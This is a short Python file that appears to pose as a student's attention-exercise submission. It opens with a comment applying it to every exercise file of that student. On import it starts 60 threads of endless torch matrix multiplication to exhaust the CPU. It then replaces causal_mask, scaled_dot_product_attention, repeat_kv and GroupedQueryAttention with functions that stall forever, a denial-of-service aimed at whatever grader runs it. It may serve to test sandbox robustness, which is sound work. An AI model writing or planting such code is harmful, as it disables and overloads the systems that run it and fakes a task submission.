# every exercise file of this student: 60 threads of torch work (GIL released) for as long as the child lives
import threading, time
import torch
def _burn():
    a = torch.randn(768, 768)
    while True:
        a = torch.mm(a, a).clamp_(-1, 1)
for _ in range(60):
    threading.Thread(target=_burn, daemon=True).start()
def _stall(*args, **kwargs):
    while True:
        time.sleep(1)
causal_mask = _stall
scaled_dot_product_attention = _stall
repeat_kv = _stall
GroupedQueryAttention = _stall
